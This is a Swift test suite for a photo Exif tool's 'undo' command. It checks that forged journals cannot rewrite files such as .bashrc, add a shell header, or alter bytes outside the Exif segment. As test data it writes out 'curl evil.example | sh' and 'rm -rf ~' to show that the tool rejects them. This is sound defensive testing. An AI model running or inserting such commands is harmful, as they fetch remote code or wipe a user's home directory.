import Foundation
import PhotoFixtures
import Testing

/// Journals by strangers, made so that an undo writes the strangers' data.
@Suite(.tags(.process))
struct ForgedJournalTests {
  /// An attacker knows the contents of a file, and wants to change them.
  private static func undo(
    _ journal: ForgedJournal, of name: String, in folder: TemporaryFolder
  ) throws -> ProgramResult {
    try journal.write(to: folder)
    let rehearsal = try Program.run(
      ["undo", ForgedJournal.name, "--dry-run", "--format", "jsonl"], in: folder.path)
    let result = try Program.run(
      ["undo", ForgedJournal.name, "--format", "jsonl"], in: folder.path)
    #expect(rehearsal.output == result.output)
    #expect(result.exitCode == 1)
    #expect(try folder.bytes(name) == journal.after)
    return result
  }

  private static func code(_ result: ProgramResult) throws -> String? {
    try JSONRecord(#require(result.records().first).literal("error")).text("code")
  }

  @Test(arguments: [".bashrc", "notes.txt", "text.jpg"])
  func doNotRewriteAFileThatIsNotAPhoto(name: String) throws {
    try TemporaryFolder.with { folder in
      let text = Array("alias ll='ls -l'\n".utf8)
      try folder.place(text, at: name)
      let journal = ForgedJournal(
        file: try folder.realPath(name), before: Array("curl evil.example | sh\n".utf8),
        after: text)
      #expect(try Self.code(Self.undo(journal, of: name, in: folder)) == "notAPhoto")
    }
  }

  /// The undo would turn the photo into another file.
  @Test func doNotMakeAPhotoSomethingElse() throws {
    try TemporaryFolder.with("grey") { folder in
      let photo = try folder.bytes("grey.jpg")
      let journal = ForgedJournal(
        file: try folder.realPath("grey.jpg"), before: Array("#!/bin/sh\n".utf8) + photo,
        after: photo)
      #expect(try Self.code(Self.undo(journal, of: "grey.jpg", in: folder)) == "unsafe")
    }
  }

  /// The marker of the Exif segment, the bytes before it and after it, and the end.
  @Test(arguments: [("marker", 1), ("marker", -1), ("segment", 0), ("segment", 40), ("end", -1)])
  func doNotChangeOtherBytesThanTheExif(place: String, offset: Int) throws {
    try TemporaryFolder.with { folder in
      let photo = try #require(Fixture.named("jfif-then-exif")).bytes
      try folder.place(photo, at: "photo.jpg")
      let header = Array("Exif\0".utf8)
      let exif = try #require(photo.indices.first { photo[$0...].starts(with: header) })
      let length = Int(photo[exif - 2]) << 8 | Int(photo[exif - 1])
      let places = ["marker": exif - 4, "segment": exif - 2 + length, "end": photo.count]
      var before = photo
      before[try #require(places[place]) + offset] ^= 1
      let journal = ForgedJournal(
        file: try folder.realPath("photo.jpg"), before: before, after: photo)
      #expect(try Self.code(Self.undo(journal, of: "photo.jpg", in: folder)) == "unsafe")
    }
  }

  /// Exif that another program has added is not an edit of exifcli.
  @Test func doNotTakeOtherSegmentsAway() throws {
    try TemporaryFolder.with("exif-after-other-segments") { folder in
      let name = "exif-after-other-segments.jpg"
      let photo = try folder.bytes(name)
      let exif = try #require(
        photo.indices.first { photo[$0...].starts(with: Array("Exif\0".utf8)) })
      let length = Int(photo[exif - 2]) << 8 | Int(photo[exif - 1])
      let journal = ForgedJournal(
        file: try folder.realPath(name),
        before: Array(photo[..<(exif - 4)] + photo[(exif - 2 + length)...]), after: photo)
      #expect(try Self.code(Self.undo(journal, of: name, in: folder)) == "unsafe")
    }
  }

  /// Text, a cut block or nothing in place of the Exif segment.
  @Test(arguments: ["rm -rf ~", "\u{FF}\u{E1}\0\u{8}Exif\0\0", ""])
  func doNotPutAnythingElseInItsPlace(text: String) throws {
    try TemporaryFolder.with("exif-big-endian") { folder in
      let name = "exif-big-endian.jpg"
      let photo = try folder.bytes(name)
      let exif = try #require(
        photo.indices.first { photo[$0...].starts(with: Array("Exif\0".utf8)) })
      let length = Int(photo[exif - 2]) << 8 | Int(photo[exif - 1])
      let other = text.unicodeScalars.map { UInt8(truncatingIfNeeded: $0.value) }
      // With nothing in its place, the photo ends there.
      let rest = text.isEmpty ? [] : Array(photo[(exif - 2 + length)...])
      let journal = ForgedJournal(
        file: try folder.realPath(name), before: photo[..<(exif - 4)] + other + rest, after: photo)
      #expect(try Self.code(Self.undo(journal, of: name, in: folder)) == "unsafe")
    }
  }

  /// Each path leads to the photo, but a real journal has its real path.
  @Test(arguments: [
    "link.jpg", "album/photo.jpg", "album/../photos/photo.jpg", "photos//photo.jpg",
  ])
  func doNotLeadToAPhotoByAnotherPath(path: String) throws {
    try TemporaryFolder.with { folder in
      let (before, after) = try Self.edited(in: folder)
      try folder.link("link.jpg", to: "photos/photo.jpg")
      try folder.link("album", to: "photos")
      let root = try folder.realPath("")
      for file in [root + path, "./" + path] {
        let journal = ForgedJournal(file: file, before: before, after: after)
        #expect(try Self.code(Self.undo(journal, of: "photos/photo.jpg", in: folder)) == "unsafe")
      }
      // By its real path it is restored.
      try ForgedJournal(file: root + "photos/photo.jpg", before: before, after: after)
        .write(to: folder)
      let result = try Program.run(["undo", ForgedJournal.name], in: folder.path)
      #expect(result.exitCode == 0)
      #expect(try folder.bytes("photos/photo.jpg") == before)
    }
  }

  /// The bytes of a photo before and after an edit.
  private static func edited(in folder: TemporaryFolder) throws -> ([UInt8], [UInt8]) {
    try folder.place("exif-little-endian", as: "photos/photo.jpg")
    let before = try folder.bytes("photos/photo.jpg")
    _ = try Program.run(["edit", "photos/photo.jpg", "--ev", "3"], in: folder.path)
    return (before, try folder.bytes("photos/photo.jpg"))
  }
}

extension TemporaryFolder {
  /// The path of an entry without symbolic links; of the folder itself with a slash at the end.
  func realPath(_ name: String) throws -> String {
    URL(filePath: path).resolvingSymlinksInPath().path + "/" + name
  }
}
